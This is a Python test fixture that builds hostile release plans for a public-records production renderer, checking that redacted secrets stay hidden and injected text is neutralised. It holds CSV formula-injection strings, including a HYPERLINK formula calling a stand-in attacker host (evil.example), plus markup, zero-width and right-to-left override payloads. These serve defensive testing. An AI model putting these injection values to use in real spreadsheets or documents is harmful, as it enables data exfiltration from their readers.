"""A hostile corpus for the production renderers and the production store: release plans
built by hand as `plan.build_plan` builds them (boxes carry codes, never the hidden text), with
the secrets that must appear nowhere in what is produced, and texts that try to become
formulas, markup or errors in what does appear.
"""

from __future__ import annotations

import hashlib

from retention_desk.production.model import (
    LogEntry,
    Piece,
    ProducedMedia,
    ProducedRecord,
    ProducedVersion,
    ProductionPlan,
    Shown,
)

SSN = "123-45-6789"
NAME = "Jane Q. Citizen"
FONT_SECRET = '<font color="red">FONTSECRET</font>'
IMG_SECRET = '<img src="http://127.0.0.1:9/p"/>IMGSECRET'
FORMULA_SECRET = '=HYPERLINK("http://evil.example/SECRETLINK","y")'
ZW_SECRET = "Z\u200bW\u200bS\u200bE\u200bC\u200bR\u200bE\u200bT"
RTL_SECRET = "\u202eSECRET-RTL-\u05e9\u05dc\u05d5\u05dd"
OLD_SECRET = "first-version-secret 555-12-3456"

SECRETS = (SSN, NAME, "FONTSECRET", "IMGSECRET", "SECRETLINK", ZW_SECRET, RTL_SECRET, OLD_SECRET)
# what a spreadsheet must keep as text, never run
FORMULAS = ('=HYPERLINK("http://x","y")', "=1+1", "@SUM(1)", "+1", "-1+1", "#N/A", "#REF!")


def plain_hashes(*texts: str) -> list[str]:
    """The plain SHA-256 a careless production would print for each redacted text."""
    return [hashlib.sha256(t.encode("utf-8")).hexdigest() for t in texts]


def _box(code: str) -> Piece:
    return Piece(box=code)


def _version(vid: int, seq: int, current: bool, *pieces: Piece) -> ProducedVersion:
    return ProducedVersion(
        version_id=vid,
        seq=seq,
        current=current,
        observed_at="2026-03-02 16:15 UTC",
        edited_at=None,
        title=Shown(()),
        text=Shown(tuple(pieces)),
    )


def record(
    rid: int,
    *pieces: Piece,
    author: Shown | None = None,
    withheld: str | None = None,
    log: tuple[LogEntry, ...] = (),
    versions: tuple[ProducedVersion, ...] | None = None,
    depth: int = 0,
    parent: int | None = None,
    fixity: tuple[str, ...] = (),
) -> ProducedRecord:
    return ProducedRecord(
        record_id=rid,
        platform="x",
        kind="post" if depth == 0 else "comment",
        account="sandia_pd",
        author_name=author if author is not None else Shown.of("Town of Sandia"),
        author_handle=Shown.of("sandia"),
        url=Shown.of(f"https://x.com/sandia/status/{rid}"),
        created_utc="2026-03-02 16:15 UTC",
        created_local="2026-03-02 09:15 MST",
        depth=depth,
        parent_id=parent,
        thread_id=parent or rid,
        deleted=False,
        hidden=depth > 0,
        edited=versions is not None and len(versions) > 1,
        restricted=False,
        versions=versions if versions is not None else (_version(rid * 10, 1, True, *pieces),),
        media=(ProducedMedia(rid * 100, "image", "image 1", None, "14-2-1.1", False),)
        if withheld is None and depth == 0
        else (),
        withheld=withheld,
        fixity=fixity or (f"keyed HMAC-SHA256 (production key) {'0' * 64}",),
        log=log,
    )


def _log(rid: int, field: str, code: str, seq: int | None = 1) -> LogEntry:
    return LogEntry(rid, field, seq, code, f"Description of {code} for the log")


def hostile_plan(*, review: bool = False, long_text: int = 0) -> ProductionPlan:
    """Five records: redacted SSN and markup, a redacted author name, every formula-like
    value in plain sight, a withheld record, two versions each with a redacted secret."""
    records = (
        record(
            1,
            Piece("My SSN is "),
            _box("14-2-1.1"),
            Piece(" and <b>bold</b> a<b & c "),
            _box("14-2-1(A)"),
            Piece(" done"),
            log=(
                _log(1, "text", "14-2-1.1"),
                _log(1, "text", "14-2-1(A)"),
                _log(1, "media", "14-2-1.1", None),
            ),
        ),
        record(
            2,
            Piece("Comment by a resident "),
            _box("14-2-1.1"),
            author=Shown((_box("14-2-1.1"),)),
            depth=1,
            parent=1,
            log=(_log(2, "author_name", "14-2-1.1", None), _log(2, "text", "14-2-1.1")),
        ),
        record(3, Piece("\n".join(FORMULAS)), fixity=("SHA-256 of version text: " + "a" * 64,)),
        record(4, withheld="14-2-1(G)", log=(_log(4, "record", "14-2-1(G)", None),)),
        record(
            5,
            versions=(
                _version(51, 1, False, Piece("first said "), _box("14-2-1.1")),
                _version(
                    52, 2, True, Piece("then said "), _box("14-2-1.1"), Piece("x" * long_text)
                ),
            ),
            log=(_log(5, "text", "14-2-1.1", 1), _log(5, "text", "14-2-1.1", 2)),
        ),
    )
    for f in FORMULAS:
        records = (*records, record(100 + len(records), Piece(f), author=Shown.of(f)))
    return ProductionPlan(
        request_number="IPRA-2026-0001",
        review=review,
        versions="all",
        agency_name="Town of Sandia",
        time_zone="America/Denver",
        records=records,
        restricted_left_out=0,
        redaction_count=sum(len(r.log) for r in records),
        withheld_count=1,
    )
